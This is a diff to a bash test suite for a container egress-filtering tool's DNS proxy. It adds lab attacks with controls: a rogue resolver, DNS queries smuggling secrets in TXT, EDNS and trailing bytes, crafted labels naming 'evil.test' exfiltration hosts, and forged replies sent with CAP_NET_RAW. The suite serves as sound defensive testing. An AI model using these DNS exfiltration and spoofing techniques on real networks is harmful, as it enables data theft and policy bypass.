@@ -13,6 +13,16 @@
 #     new connection to the expired address is refused;
 #   - the names proxy killed: nothing resolves, nothing new opens; restarted: names resolve again;
 #   - release stops it and removes everything; a namespace that dies takes its proxy with it.
+# And the attacks on the proxy itself (each with a control showing the technique works without
+# the defence):
+#   - the container chooses the resolver: an allowed name asked of an attacker's server on wan
+#     (which answers every A with wan's own address) never reaches it, is answered by the trusted
+#     resolver, and wan's address never enters names4 (as root and with no capability);
+#   - data in the query (an additional TXT record, an EDNS option, trailing bytes) never reaches
+#     the resolver (its raw log);
+#   - forged answers (Docker's default capabilities, CAP_NET_RAW) into the proxy's upstream socket,
+#     and a forged reply to any established flow of the namespace through lo: never delivered;
+#   - --resolver and the container's resolv.conf decide the trusted resolvers (status shows them).
 source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
 require_tools jq nft ss
 PY=/usr/bin/python3 # Debian's, with python3-dnslib
@@ -27,8 +37,26 @@ STATE=$(lab_state_dir "$P")
 LAN4=$LAB_LAN4 LAN6=$LAB_LAN6 WAN4=$LAB_WAN4 WAN6=$LAB_WAN6
 PORT=$LAB_TCP_PORT
 LAN_DNS_LOG=$STATE/lan.dns.log WAN_DNS_LOG=$STATE/wan.dns.log
+LAN_RAW_LOG=$STATE/lan.raw.log EVIL_DNS_LOG=$STATE/evil.dns.log
 : >"$LAN_DNS_LOG"
 : >"$WAN_DNS_LOG"
+: >"$LAN_RAW_LOG"
+: >"$EVIL_DNS_LOG"
+# The attacker's resolver: on wan (forbidden), every A/AAAA question answered with wan's own
+# address, every query logged.
+EVIL4=198.51.100.53 EVIL6=2001:db8:2::53
+ip -n "${P}_wan" addr add "$EVIL4/24" dev eth0
+ip -n "${P}_wan" addr add "$EVIL6/64" dev eth0 nodad
+# A trusted resolver that never answers (the forged-answer attack needs the proxy waiting).
+SILENT4=192.168.1.98
+ip -n "${P}_lan" addr add "$SILENT4/24" dev eth0
+DOCKER_CAPS=chown,dac_override,fowner,fsetid,kill,setgid,setuid,setpcap,net_bind_service,net_raw,sys_chroot,mknod,audit_write,setfcap
+docker_caps() { in_ctr setpriv --bounding-set "-all,+${DOCKER_CAPS//,/,+}" --inh-caps -all --no-new-privs "$@"; }
+no_caps() {
+	in_ctr setpriv --reuid 65534 --regid 65534 --clear-groups --bounding-set -all --inh-caps -all --no-new-privs "$@"
+}
+ATK=$HELPERS/dns_attack.py
+hexof() { printf '%s' "$1" | od -An -tx1 | tr -d ' \n'; }
 
 # The rotating addresses: ten more on lan (its listeners bind every address).
 for i in $(seq 20 29); do
@@ -46,20 +74,33 @@ ZONE=(
 	"short.example.test=4:192.168.1.24"
 	"forbidden.example.test=4:$WAN4"
 )
-start_dns() { # NODE LOG ADDR...
+start_dns() { # NODE LOG [OPTION...] -- ADDR...
 	local node=$1 log=$2
 	shift 2
+	local opts=()
+	while [[ $1 != -- ]]; do
+		opts+=("$1")
+		shift
+	done
+	shift
 	local binds=()
 	for a in "$@"; do binds+=(--bind "$a"); done
-	bg_in_ns "${P}_$node" "$PY" "$HELPERS/dns_server.py" --log "$log" --ttl 5 "${binds[@]}" "${ZONE[@]}"
+	bg_in_ns "${P}_$node" "$PY" "$HELPERS/dns_server.py" --log "$log" --ttl 5 "${opts[@]}" "${binds[@]}" "${ZONE[@]}"
 	local pid=$!
 	on_exit "kill $pid 2>/dev/null"
 }
-start_dns lan "$LAN_DNS_LOG" "$LAN4" "$LAN6"
-start_dns wan "$WAN_DNS_LOG" "$WAN4" "$WAN6"
+start_dns lan "$LAN_DNS_LOG" --raw-log "$LAN_RAW_LOG" -- "$LAN4" "$LAN6"
+start_dns wan "$WAN_DNS_LOG" -- "$WAN4" "$WAN6"
+start_dns wan "$EVIL_DNS_LOG" --any-a "$WAN4" --any-aaaa "$WAN6" -- "$EVIL4" "$EVIL6"
+bg_in_ns "${P}_lan" "$PY" -c "import socket,time
+s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(('$SILENT4',53)); time.sleep(3600)"
+SILENT_PID=$!
+on_exit "kill $SILENT_PID 2>/dev/null"
 dns_listening() { [[ -n $(lab_exec "$P" "$1" ss -Hln "sport = :53") ]]; }
+evil_listening() { [[ -n $(lab_exec "$P" wan ss -Hln "src $EVIL4 and sport = :53") ]]; }
 assert_true "the lan DNS server listens" eventually dns_listening lan
 assert_true "the wan DNS server listens" eventually dns_listening wan
+assert_true "the attacker's DNS server listens" eventually evil_listening
 
 # q SERVER NAME TYPE [--tcp]: from ctr; "NOERROR addr..." / "REFUSED" / "NXDOMAIN" / "TIMEOUT" ...
 q() { in_ctr "$PY" "$HELPERS/dns_client.py" query "$@"; }
@@ -87,7 +128,7 @@ except OSError as e:
     print(errno.errorcode.get(e.errno,str(e.errno)))' "$@"
 }
 REFUSED='^(EPERM|EACCES|EHOSTUNREACH|ENETUNREACH)$'
-NAMES=(--allow "api.example.test tcp/$PORT" --allow "alias.example.test tcp/$PORT"
+NAMES=(--resolver "$LAN4" --resolver "$LAN6" --allow "api.example.test tcp/$PORT" --allow "alias.example.test tcp/$PORT"
 	--allow "*.cdn.example.test tcp/$PORT" --allow "rot.example.test tcp/$PORT"
 	--allow "short.example.test tcp/$PORT")
 proxy_pid() { nsg status --netns "$CTR_NS" --json | jq -r '.names.proxy_pid // empty'; }
@@ -98,6 +139,15 @@ assert_true "lan resolver logged it" wait_for_text "$LAN_DNS_LOG" "control-$$.ex
 assert_eq NXDOMAIN "$(q "$WAN6" "control6-$$.exfil.test" A --tcp)" "wan resolver answers over TCP/IPv6"
 assert_true "wan resolver logged it" wait_for_text "$WAN_DNS_LOG" "control6-$$.exfil.test"
 assert_eq "NOERROR 192.168.1.24" "$(q "$LAN4" short.example.test A)" "a name resolves"
+assert_eq "NOERROR $WAN4" "$(q "$EVIL4" api.example.test A)" "control: the attacker's resolver says api.example.test is wan"
+assert_true "control: the attacker's resolver logged it" wait_for_text "$EVIL_DNS_LOG" "api.example.test"
+assert_eq ok "$(conn "$WAN4" "$PORT")" "control: wan's TCP port answers without a policy"
+SECRET_CONTROL="A3-SECRET-CONTROL-$$"
+assert_match "$(in_ctr "$PY" "$ATK" extra "$LAN4" api.example.test "$SECRET_CONTROL")" "^NOERROR $LAN4$" \
+	"control: a query carrying data in TXT, EDNS and trailing bytes"
+assert_true "control: the data reached the resolver" grep -q "$(hexof "$SECRET_CONTROL")" "$LAN_RAW_LOG"
+assert_eq delivered "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR4" "$LAN4" "$LAB_UDP_PORT")" \
+	"control: a forged reply through lo to a flow of the namespace is delivered without a policy"
 
 section "bad name entries are refused with one line"
 for bad in "*.com tcp/80" "a.*.example.test" "exa_mple..test" "api.example.test icmp" "-bad.example.test" \
@@ -114,6 +164,62 @@ PID1=$(jq -r .names.proxy_pid <<<"$OUT")
 assert_true "the names proxy runs (pid $PID1)" test -d "/proc/$PID1"
 assert_eq "$(stat -L -c %i "$CTR_NS")" "$(stat -L -c %i "/proc/$PID1/ns/net")" "the proxy lives in the container's namespace"
 assert_match "$(conn "$LAN4" "$PORT")" "$REFUSED" "before any answer, the name's address is refused"
+assert_eq "$LAN4 $LAN6" "$(jq -r '.names.resolvers | join(" ")' <<<"$OUT")" "restrict reports the trusted resolvers"
+ST=$(nsg status --netns "$CTR_NS" --json)
+assert_eq "$LAN4 $LAN6" "$(jq -r '.names.resolvers | join(" ")' <<<"$ST")" "status shows the trusted resolvers"
+assert_eq operator "$(jq -r '.names.resolvers_from' <<<"$ST")" "status says they came from the operator"
+
+section "the container does not choose the resolver (attacker's server on wan)"
+evil_before=$(wc -l <"$EVIL_DNS_LOG")
+assert_eq "NOERROR $LAN4" "$(q "$EVIL4" api.example.test A)" "asked of the attacker's server: the trusted resolver's answer"
+assert_eq "NOERROR $LAN6" "$(q "$EVIL6" api.example.test AAAA --tcp)" "the same over TCP/IPv6"
+assert_eq "NOERROR $LAN4" "$(no_caps "$PY" "$HELPERS/dns_client.py" query "$EVIL4" api.example.test A)" \
+	"the same from a process with no capability"
+assert_eq "NOERROR $LAN4" "$(q 8.8.8.8 api.example.test A)" "a hard-coded public resolver is answered transparently"
+assert_eq "$evil_before" "$(wc -l <"$EVIL_DNS_LOG")" "not one query reached the attacker's server"
+names4=$(in_ctr nft list set inet nsegress names4)
+names6=$(in_ctr nft list set inet nsegress names6)
+assert_false "wan's address is not in names4" grep -qF "$WAN4 " <<<"$names4"
+assert_false "wan's address is not in names6" grep -qF "$WAN6 " <<<"$names6"
+assert_match "$(conn "$WAN4" "$PORT")" "$REFUSED" "a TCP connect to wan is refused"
+assert_match "$(no_caps "$PY" "$HELPERS/dns_client.py" query "$EVIL4" "exfil-$$.evil.test" TXT)" "^REFUSED$" \
+	"a name outside the policy asked of the attacker's server: REFUSED"
+PLOG=$(jq -r '.names.log' <<<"$ST")
+assert_true "the proxy logs where the query was addressed and which resolver answered" \
+	grep -q "\"addressed_to\":\"$EVIL4\".*\"resolver\":\"$LAN4\"" "$PLOG"
+
+section "data in the query never reaches the resolver"
+SECRET="A3-SECRET-PAYLOAD-$$"
+raw_before=$(wc -l <"$LAN_RAW_LOG")
+assert_match "$(no_caps "$PY" "$ATK" extra "$LAN4" api.example.test "$SECRET")" "^NOERROR $LAN4$" \
+	"a query carrying data in TXT, EDNS and trailing bytes is answered"
+assert_true "the resolver got a query" test "$(wc -l <"$LAN_RAW_LOG")" -gt "$raw_before"
+assert_false "none of its data reached the resolver" grep -q "$(hexof "$SECRET")" "$LAN_RAW_LOG"
+last=$(tail -1 "$LAN_RAW_LOG" | cut -d' ' -f2)
+# 12 header + api.example.test (18) + type/class (4) + OPT (11): exactly our query
+assert_eq $(((12 + 18 + 4 + 11) * 2)) "${#last}" "what arrived is the one question and a bare OPT record"
+tricks=$(in_ctr "$PY" - "$LAN4" <<'EOF'
+import socket, struct, sys
+def enc(labels): return b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
+def q(wire, qd=1, extra=b""): return struct.pack("!HHHHHH", 0x1111, 0x0100, qd, 0, 0, 0) + wire + struct.pack("!HH", 1, 1) + extra
+cases = {
+    "escaped-dot": q(enc([b"api.example", b"test"])),
+    "nul": q(enc([b"api\0", b"example", b"test"])),
+    "two-questions": q(enc([b"api", b"example", b"test"]), qd=2, extra=enc([b"leak1", b"evil", b"test"]) + struct.pack("!HH", 1, 1)),
+    "qd0": q(enc([b"leak2", b"evil", b"test"]), qd=0),
+}
+for name, pkt in cases.items():
+    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
+    s.sendto(pkt, (sys.argv[1], 53))
+    try:
+        r = s.recv(4096); print(name, "rcode", r[3] & 15, "an", struct.unpack("!H", r[6:8])[0])
+    except Exception as e:
+        print(name, e)
+EOF
+)
+echo "$tricks" | sed 's/^/#   /'
+assert_eq 4 "$(grep -cE ' rcode (1|5) an 0$' <<<"$tricks")" "a dot or NUL inside a label, two questions, none: REFUSED or FORMERR, no answer"
+assert_false "none of them reached the resolver as a name" grep -qE 'api\.example test|leak1|leak2' "$LAN_DNS_LOG"
 
 section "an allowed name resolves and opens its addresses on its ports only"
 assert_eq "NOERROR $LAN4" "$(q "$LAN4" api.example.test A)" "A over UDP/IPv4"
@@ -275,6 +381,54 @@ assert_eq "" "$(proxy_pid)" "the supervisor did not restart it after release"
 assert_eq "" "$(nft_table)" "no table left"
 assert_false "no state file left" test -e "$STATE_FILE"
 assert_eq NXDOMAIN "$(q "$LAN4" "after-release-$$.exfil.test" A)" "DNS goes straight to the resolver again"
+
+section "forged answers into the proxy's upstream socket (Docker's default capabilities)"
+assert_eq delivered "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR4" "$LAN4" "$LAB_UDP_PORT")" \
+	"control: with no policy a forged reply through lo reaches an established flow's socket"
+expect_exit 0 nsg restrict --netns "$CTR_NS" --resolver "$SILENT4" --allow "api.example.test tcp/$PORT" \
+	--allow "$LAN4 udp/$LAB_UDP_PORT" --no-probe --json
+forged_count() { nsg status --netns "$CTR_NS" --json | jq -r '.policy.counters.forged_source.packets'; }
+f0=$(forged_count)
+assert_eq nothing "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR4" "$LAN4" "$LAB_UDP_PORT")" \
+	"a forged reply through lo to an established flow is not delivered"
+out=$(docker_caps "$PY" "$ATK" forge "$SILENT4" "$WAN4" api.example.test)
+echo "$out" | sed 's/^/#   /'
+assert_match "$out" "upstream [0-9]+ forged 2049 dropped 2049" "the proxy's upstream socket was found; all 2049 answers forged to it were dropped on the way out"
+assert_false "the client never got wan's address" grep -qF "$WAN4" <<<"$(grep client: <<<"$out")"
+assert_false "wan's address never entered names4" grep -qF "$WAN4 " <<<"$(in_ctr nft list set inet nsegress names4)"
+assert_match "$(conn "$WAN4" "$PORT")" "$REFUSED" "a TCP connect to wan is refused"
+f1=$(forged_count)
+assert_true "the forged-source counter counted them ($f0 -> $f1)" test "$f1" -ge $((f0 + 2049))
+# Without the rule (deleted here by hand, as an observer) the forgery is delivered: the test can fail.
+h=$(in_ctr nft -a list chain inet nsegress output | grep 'oif "lo" fib saddr type != local' | sed -n 's/.*# handle //p')
+assert_match "$h" '^[0-9]+$' "the rule is in the output chain"
+in_ctr nft delete rule inet nsegress output handle "$h"
+assert_eq delivered "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR4" "$LAN4" "$LAB_UDP_PORT")" \
+	"control: without that rule the forged reply is delivered"
+
+section "the trusted resolvers come from the container's resolv.conf when none is given"
+printf 'search example.test\nnameserver %s\nnameserver 127.0.0.53\n' "$LAN4" >"$TMPD/resolv.conf"
+rm -f "$TMPD/mounted"
+bg_in_ctr unshare -m --propagation private sh -c "mount --bind '$TMPD/resolv.conf' /etc/resolv.conf && touch '$TMPD/mounted' && exec sleep 300"
+RPID=$!
+on_exit "kill $RPID 2>/dev/null"
+assert_true "a process of the container with its own resolv.conf" eventually test -e "$TMPD/mounted"
+in_resolv() { grep -q "127.0.0.53" "/proc/$RPID/root/etc/resolv.conf" 2>/dev/null; }
+assert_true "its resolv.conf is the test's" eventually in_resolv
+expect_exit 0 nsg restrict --pid "$RPID" --allow "api.example.test tcp/$PORT" --no-probe --json
+assert_eq "resolv.conf $LAN4" "$(jq -r '.names.resolvers_from + " " + (.names.resolvers | join(" "))' <<<"$OUT")" \
+	"the nameserver of its resolv.conf is trusted"
+assert_eq "127.0.0.53" "$(jq -r '.names.resolvers_not_trusted | join(" ")' <<<"$OUT")" \
+	"its loopback nameserver is not (a running container may run it itself)"
+assert_eq "NOERROR $LAN4" "$(q "$EVIL4" api.example.test A)" "a query to the attacker's server is answered by it"
+assert_eq "$evil_before" "$(wc -l <"$EVIL_DNS_LOG")" "and never reaches the attacker's server"
+ST=$(nsg status --netns "$CTR_NS" --json)
+assert_eq "resolv.conf $LAN4" "$(jq -r '.names.resolvers_from + " " + (.names.resolvers | join(" "))' <<<"$ST")" \
+	"status shows them"
+expect_exit 0 nsg restrict --pid "$RPID" --resolver 127.0.0.53 --allow "api.example.test tcp/$PORT" --no-probe --json
+assert_eq "operator 127.0.0.53" "$(jq -r '.names.resolvers_from + " " + (.names.resolvers | join(" "))' <<<"$OUT")" \
+	"--resolver wins, a loopback one too"
+expect_exit 0 nsg release --netns "$CTR_NS" --json
 
 section "a namespace that dies takes its proxy with it"
 lab_extra_ns "$P" gone
